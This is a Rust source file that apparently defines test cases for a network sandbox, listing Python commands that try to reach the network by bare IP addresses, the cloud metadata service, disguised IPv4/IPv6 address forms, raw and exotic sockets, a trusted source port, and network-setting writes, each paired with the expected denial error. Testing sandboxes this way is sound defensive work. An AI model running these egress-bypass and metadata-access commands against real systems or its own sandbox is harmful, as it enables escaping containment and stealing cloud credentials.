//! Packets to addresses, without asking for a name.

use crate::{Attack, Control, Expect, Trace};
use Control::{None, Podman, Root, User};
use Expect::{Errno, Exit, Finds};
use Trace::{Success, Wire};

const fn wire(id: &'static str, what: &'static str, command: &'static str, denied: Expect) -> Attack {
    Attack { id, what, command, trace: Wire, control: User, denied }
}
const UNREACHABLE: Expect = Errno("ENETUNREACH");

/// The class.
pub const ATTACKS: &[Attack] = &[
    wire("N01", "TCP to a bare address", "once(lambda: tcp(SINK4, 80))", UNREACHABLE),
    wire(
        "N02",
        "TLS to a bare address, with a listed name as SNI",
        "once(lambda: curl('--resolve', 'allowed.example:443:' + SINK4, 'https://allowed.example/' + T))",
        Exit("curl", 7),
    ),
    wire(
        "N03",
        "a listed name on other ports",
        "each(lambda p: tcp('allowed.example', p), 25, 8080, 9999)",
        Errno("ECONNRESET"),
    ),
    wire(
        "N05",
        "system calls without a library between",
        r"once(lambda: run('perl', '-e', r'''
            $s = syscall(41, 2, 1, 0); $a = pack(q(S n C4 x8), 2, 80, 11, 66, 66, 66);
            syscall(42, $s, $a, 16) == 0 or exit($! + 0); $d = qq(GET /$ENV{T} HTTP/1.0\r\n\r\n);
            syscall(1, $s, $d, length $d); $b = qq(x) x 9; exit(syscall(0, $s, $b, 1) == 1 ? 0 : 99)'''))",
        Exit("perl", 101),
    ),
    wire("N06", "UDP to a bare address", "each(lambda p: udp(SINK4, p), 9999, 123, 51820)", UNREACHABLE),
    wire("N07", "QUIC's port of a listed name", "once(lambda: udp('allowed.example', 443))", Errno("ECONNREFUSED")),
    wire(
        "N08",
        "ICMP echo",
        r"once(lambda: ping(SINK4))
def ping(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as s:
        s.settimeout(4)
        s.sendto(b'\x08\0\0\0\0\0\0\1' + T.encode(), (address, 0))
        s.recv(1)",
        Errno("ENOSYS"),
    ),
    wire("N10a", "UDP-Lite", "once(lambda: udp(SINK4, 9999, answered=False, protocol=136))", Errno("ENOSYS")),
    Attack {
        id: "N10b",
        what: "MPTCP",
        command: "once(lambda: make_socket(2, 1, 262))",
        trace: Success,
        control: Podman,
        denied: Errno("ENOSYS"),
    },
    Attack {
        id: "N10c",
        what: "SCTP and DCCP",
        command: "each(lambda p: make_socket(2, *p), (1, 132), (5, 132), (6, 33))",
        trace: Success,
        control: None("neither protocol is in every kernel"),
        denied: Errno("ENOSYS"),
    },
    wire(
        "N11",
        "multicast and broadcast on the LAN (mDNS, SSDP, everybody)",
        "each(lambda a: udp(*a, answered=False), ('224.0.0.251', 5353), ('239.255.255.250', 1900), ('255.255.255.255', 9))",
        UNREACHABLE,
    ),
    wire(
        "N13a",
        "private and shared ranges",
        "each(lambda a: tcp(a, 80), '10.0.0.1', '172.16.0.1', '192.168.1.1', '100.64.0.1')",
        UNREACHABLE,
    ),
    wire(
        "N13b",
        "the LAN: router, printer, proxy",
        "each(lambda a: tcp(a[0], a[1]), ('192.168.77.1', 80), ('192.168.77.20', 80), ('192.168.77.3', 3128))",
        UNREACHABLE,
    ),
    wire(
        "N13c",
        "the cloud's metadata service",
        "once(lambda: curl('http://169.254.169.254/latest/' + T))",
        Exit("curl", 7),
    ),
    wire(
        "N14",
        "addresses in disguise (decimal, hexadecimal, octal, mapped)",
        "each(lambda a: curl('http://%s/%s' % (a, T)), '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]')",
        Exit("curl", 7),
    ),
    wire(
        "N15",
        "IPv4 wrapped in IPv6 (NAT64, 6to4, Teredo)",
        "each(lambda a: curl('http://[%s]/%s' % (a, T)), '64:ff9b::a9fe:a9fe', '2002:a9fe:a9fe::1', '2001:0:a9fe:a9fe::1')",
        Exit("curl", 7),
    ),
    Attack {
        id: "N17",
        what: "a source port that firewalls trust",
        command: r"once(lambda: trusted())
def trusted():
    with socket.socket() as s:
        s.settimeout(4)
        s.bind(('', 53))
        s.connect((SINK4, 4444))
        s.sendall(T.encode())",
        trace: Wire,
        control: Root,
        denied: Errno("EACCES"),
    },
    Attack {
        id: "N18",
        what: "own packets by a raw socket",
        command: r"once(lambda: raw())
def raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 253) as s:
        s.sendto(T.encode(), (SINK4, 0))",
        trace: Wire,
        control: Root,
        denied: Errno("ENOSYS"),
    },
    wire(
        "N19",
        "data in the SYN (TCP Fast Open)",
        r"once(lambda: fast())
def fast():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack('qq', 4, 0))
        s.sendto(T.encode(), socket.MSG_FASTOPEN, (SINK4, 80))
        s.recv(1)",
        UNREACHABLE,
    ),
    wire(
        "N22",
        "the addresses by which containers know their host",
        "each(lambda a: tcp(a, 8080), '10.0.2.2', '169.254.1.2', '172.17.0.1', '192.168.65.2')",
        UNREACHABLE,
    ),
    wire(
        "N23",
        "whatever is the default gateway",
        r"once(lambda: gateway())
def gateway():
    for line in open('/proc/net/route').read().splitlines()[1:]:
        words = line.split()
        if words[1] == '00000000':
            return tcp(socket.inet_ntoa(struct.pack('<I', int(words[2], 16))), 80)
    raise Denied('no default route')",
        Finds("no default route"),
    ),
    Attack {
        id: "N26",
        what: "a route of one's own",
        command: "once(lambda: run('ip', 'route', 'add', 'local', '11.200.0.0/16', 'dev', 'lo'))",
        trace: Success,
        control: Root,
        denied: Exit("ip", 2),
    },
    wire("V01", "TCP and UDP to a bare IPv6 address", "each(lambda f: f(SINK6, 9999), tcp, udp)", UNREACHABLE),
    wire(
        "V03",
        "a neighbour's link-local address, and all of them",
        r"each(lambda f: f(), near, all_nodes)
def near():
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(4)
        s.connect(('fe80::1', 80, 0, 2 if not os.path.exists('/sys/class/net/eth0') else socket.if_nametoindex('eth0')))
        s.sendall(b'GET /%s HTTP/1.0\r\n\r\n' % T.encode())
        s.recv(1)
def all_nodes():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.sendto(T.encode(), ('ff02::1', 9, 0, 2 if not os.path.exists('/sys/class/net/eth0') else socket.if_nametoindex('eth0')))",
        UNREACHABLE,
    ),
    Attack {
        id: "V06",
        what: "the network's settings",
        command: "each(lambda k: open('/proc/sys/net/' + k, 'w').write('0'), 'ipv6/conf/all/disable_ipv6', 'ipv4/conf/all/route_localnet')",
        trace: Success,
        control: Root,
        denied: Errno("EROFS"),
    },
    wire(
        "V07",
        "IPv4 through an IPv6 socket",
        r"once(lambda: mapped())
def mapped():
    with socket.socket(socket.AF_INET6) as s:
        s.settimeout(4)
        s.connect(('::ffff:' + SINK4, 80))
        s.sendall(b'GET /%s HTTP/1.0\r\n\r\n' % T.encode())
        s.recv(1)",
        UNREACHABLE,
    ),
];
